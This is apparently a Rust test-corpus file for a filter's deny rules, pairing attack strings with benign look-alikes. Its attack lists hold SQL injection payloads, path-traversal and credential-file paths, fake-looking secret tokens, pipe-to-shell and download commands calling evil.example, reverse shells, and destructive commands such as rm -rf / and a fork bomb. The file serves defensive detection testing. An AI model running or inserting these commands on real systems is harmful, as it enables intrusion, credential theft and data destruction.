//! The test corpora: realistic attacks for each built-in deny rule, and benign look-alikes
//! that must pass every one.

use super::AWS_KEY;

/// Realistic attacks for each built-in deny rule.
pub(super) fn attacks() -> Vec<(&'static str, Vec<String>)> {
    let alnum36 = "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z5A";
    vec![
        (
            "private_key",
            vec![
                "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7\n-----END RSA PRIVATE KEY-----"
                    .into(),
                "-----BEGIN OPENSSH PRIVATE KEY-----".into(),
                "key: -----BEGIN PRIVATE KEY-----MIIEvQ".into(),
                "-----BEGIN ENCRYPTED PRIVATE KEY-----".into(),
                "-----BEGIN EC PRIVATE KEY-----".into(),
                "-----BEGIN PGP PRIVATE KEY BLOCK-----".into(),
                "PuTTY-User-Key-File-3: ssh-ed25519".into(),
            ],
        ),
        (
            "aws_access_key_id",
            vec![
                AWS_KEY.into(),
                "export AWS_ACCESS_KEY_ID=ASIAY34FZKBOKMUTVV7A".into(),
                format!("{{\"key\":\"{AWS_KEY}\"}}"),
            ],
        ),
        (
            "aws_secret_access_key",
            vec![
                "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY".into(),
                "{\"AWS_SECRET_ACCESS_KEY\": \"wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\"}".into(),
            ],
        ),
        (
            "github_token",
            vec![
                format!("ghp_{alnum36}"),
                format!("token {}", format_args!("gho_{alnum36}")),
                format!(
                    "github_pat_{}_{}",
                    "11ABCDEFG0123456789abc",
                    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456"
                ),
            ],
        ),
        ("gitlab_token", vec!["glpat-xYz12AbC34dEf56GhI78".into()]),
        (
            "slack_token",
            vec![
                "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx".into(),
                "SLACK=xoxp-1234567890-1234567890-1234567890-0123456789abcdef0123456789abcdef"
                    .into(),
                "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
                    .into(),
            ],
        ),
        (
            "google_credential",
            vec![
                "AIzaSyA-1234567890abcdefghijklmnopqrstu".into(),
                "GOCSPX-abcdefghijklmnopqrstuvwxyz12".into(),
                "Bearer ya29.a0AfH6SMBx3kEXAMPLEexampleEXAMPLEexample".into(),
            ],
        ),
        (
            "stripe_secret_key",
            vec!["sk_live_4eC39HqLyjWDarjtT1zdp7dc".into()],
        ),
        (
            "openai_api_key",
            vec![
                "sk-proj-abcdefghijklmnopqrstT3BlbkFJabcdefghijklmnopqrst".into(),
                "sk-abcdefghijklmnopqrstT3BlbkFJabcdefghijklmnopqrst".into(),
            ],
        ),
        (
            "anthropic_api_key",
            vec![format!("sk-ant-api03-{}", "aB3-dE5_fG7".repeat(9))],
        ),
        (
            "path_traversal",
            vec![
                "../../etc/hosts".into(),
                "..\\..\\windows\\win.ini".into(),
                "uploads/../../app/config.yml".into(),
                "..".into(),
                "file=../secret".into(),
                "%2e%2e%2f%2e%2e%2fetc".into(),
                "..%2F..%2Fapp".into(),
                "%252e%252e%252fadmin".into(),
                "%c0%ae%c0%ae/boot.ini".into(),
                "https://files.example/get?path=%2E%2E%5Cwin.ini".into(),
            ],
        ),
        (
            "sensitive_path",
            vec![
                "/etc/shadow".into(),
                "cat /etc/passwd".into(),
                "/etc/passwd-".into(),
                "/home/alice/.ssh/id_rsa".into(),
                "~/.ssh/authorized_keys".into(),
                "C:\\Users\\bob\\.ssh\\id_ed25519".into(),
                "~/.aws/credentials".into(),
                "/proc/self/environ".into(),
                "/root/.kube/config".into(),
                "/home/ci/.git-credentials".into(),
                "~/.netrc".into(),
                "C:\\Windows\\System32\\config\\SAM".into(),
                // Other spellings of the same paths.
                "/etc//shadow".into(),
                "/etc/./shadow".into(),
                "/etc/%73hadow".into(),
                "%2Fetc%2Fpasswd".into(),
                "/home/alice/.ssh//id_rsa".into(),
            ],
        ),
        (
            "sql_tautology",
            vec![
                "' OR '1'='1".into(),
                "admin' or 1=1--".into(),
                "\" or \"\"=\"".into(),
                "') OR ('a'='a".into(),
                "1' AND 1=1".into(),
                "x' || 'a'='a".into(),
                "'or'1'='1".into(),
            ],
        ),
        (
            "sql_comment",
            vec![
                "admin'--".into(),
                "1')-- -".into(),
                "admin'#".into(),
                "x\"--+".into(),
            ],
        ),
        (
            "sql_union_select",
            vec![
                "1 UNION SELECT username, password FROM users".into(),
                "' union all select null,null--".into(),
                "1/**/UNION/**/SELECT/**/1".into(),
                "1 union(select 1)".into(),
            ],
        ),
        (
            "sql_stacked_query",
            vec![
                "1; DROP TABLE users".into(),
                "'; DROP TABLE users; --".into(),
                "1;delete from users where 1=1".into(),
                "x'); insert into admins values('me')".into(),
                "1; UPDATE users SET role = 'admin'".into(),
                "1; exec xp_cmdshell 'dir'".into(),
                "1; shutdown --".into(),
            ],
        ),
        (
            "sql_time_delay",
            vec![
                "1'; WAITFOR DELAY '0:0:5'--".into(),
                "1 AND pg_sleep(5)".into(),
                "1 AND BENCHMARK(5000000,MD5(1))".into(),
                "1' AND SLEEP(5)#".into(),
            ],
        ),
        (
            "shell_substitution",
            vec![
                "$(id)".into(),
                "report-$(curl -s http://evil.example/x.sh).pdf".into(),
                "x=`whoami`".into(),
                "name;`cat /tmp/x`".into(),
                "$(/bin/sh -c id)".into(),
                "cat${IFS}/tmp/x".into(),
                "`id`".into(),
            ],
        ),
        (
            "shell_chained_command",
            vec![
                "notes.txt; rm -rf /tmp/x".into(),
                "a && curl http://evil.example/x.sh -o /tmp/x".into(),
                "x | nc evil.example 4444".into(),
                "1; bash -c 'id'".into(),
                "x; python3 -c 'import os'".into(),
                "x && chmod +x /tmp/p".into(),
                "x; echo aGk= | base64 -d".into(),
                "x || wget https://evil.example/x".into(),
            ],
        ),
        (
            "shell_pipe_to_shell",
            vec![
                "curl -fsSL https://get.evil.example | sh".into(),
                "wget -qO- http://x.example/i | bash".into(),
                "cat payload | sudo bash".into(),
                "echo id | /bin/sh".into(),
                "curl x | bash -s".into(),
            ],
        ),
        (
            "shell_reverse_shell",
            vec![
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1".into(),
                "nc -e /bin/sh 10.0.0.1 4444".into(),
                "ncat -lvp 4444 -e /bin/bash".into(),
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"
                    .into(),
            ],
        ),
        (
            "shell_destructive",
            vec![
                "rm -rf /".into(),
                "rm -rf ~".into(),
                "sudo rm -rf --no-preserve-root /".into(),
                "rm -fr /*".into(),
                ":(){ :|:& };:".into(),
                "mkfs.ext4 /dev/sda1".into(),
                "dd if=/dev/zero of=/dev/sda bs=1M".into(),
            ],
        ),
    ]
}

/// Text that must pass every built-in deny rule: paths, prose, code and commands that look a
/// little like the attacks.
pub(super) const BENIGN: &[&str] = &[
    // paths
    "docs/a..b.txt",
    "src/main.rs",
    "/home/alice/projects/report.pdf",
    "C:\\Users\\bob\\Documents\\notes.txt",
    "git diff v1.0..v2.0",
    "wait... what?",
    "file..txt",
    "See ../README.md for details",
    "/etc/hosts",
    "/etc/passwords-policy.md",
    "docs/ssh.md",
    "/home/alice/.sshrc",
    "https://example.com/a/b?x=1&y=2",
    // prose that mentions SQL words
    "Please SELECT the best option from the list and explain why.",
    "We should union the results and select the top three.",
    "The union selected a new leader.",
    "I can't decide whether it's 'red' or blue.",
    "O'Reilly or Packt = publishers I like",
    "Use '--force' carefully, or '---' as a separator.",
    "He said 'no' -- then left.",
    "Buy milk; update the set of tests later.",
    "Step 1; insert into the slot; then close the lid",
    "It rained; we dropped the plan.",
    "Run the benchmark(s) again; sleep(5) between retries",
    "SELECT name FROM users WHERE id = 1",
    // code and commands that are not injections
    "if name == 'a' or count == 1:\n    time.sleep(5)",
    "$(document).ready(function() { init(); })",
    "$(CC) -o out main.c",
    "Run `ls -la` to list files, or `cargo test`.",
    "`ls` lists files",
    "costs $(5) more",
    "npm install && npm test",
    "cargo build --release | tee build.log",
    "Tom & Jerry; Q&A: curl basics",
    "| shell | bash |\n|---|---|\n| python | 3.12 |",
    "ls | sort | uniq -c",
    "Use curl to download https://example.com/file.tar.gz",
    "use nc -z host 80 to test a port",
    "rm -rf build/",
    "rm -f notes.txt",
    "dd if=in.img of=out.img",
    "echo > /dev/null",
    // strings that are almost secrets
    "-----BEGIN PUBLIC KEY-----",
    "-----BEGIN CERTIFICATE-----",
    "the private key must be kept secret",
    "AKIAIOSFODNN7EXAMPL",
    "AKIA1234567890123456",
    "XAKIAIOSFODNN7EXAMPLE",
    "set AWS_SECRET_ACCESS_KEY in your environment",
    "aws_secret_access_key = ${AWS_SECRET}",
    "ghp_abc and github_pat_short",
    "glpat-short",
    "xoxb- tokens are documented at hooks.slack.com/services",
    "AIza is the prefix of Google API keys",
    "sk_test_4eC39HqLyjWDarjtT1zdp7dc",
    "sk-1234 task-list sk-ant-",
    // personal data is a redaction matter, not a deny rule
    "alice@example.com",
    "4111 1111 1111 1111",
    "123-45-6789",
];
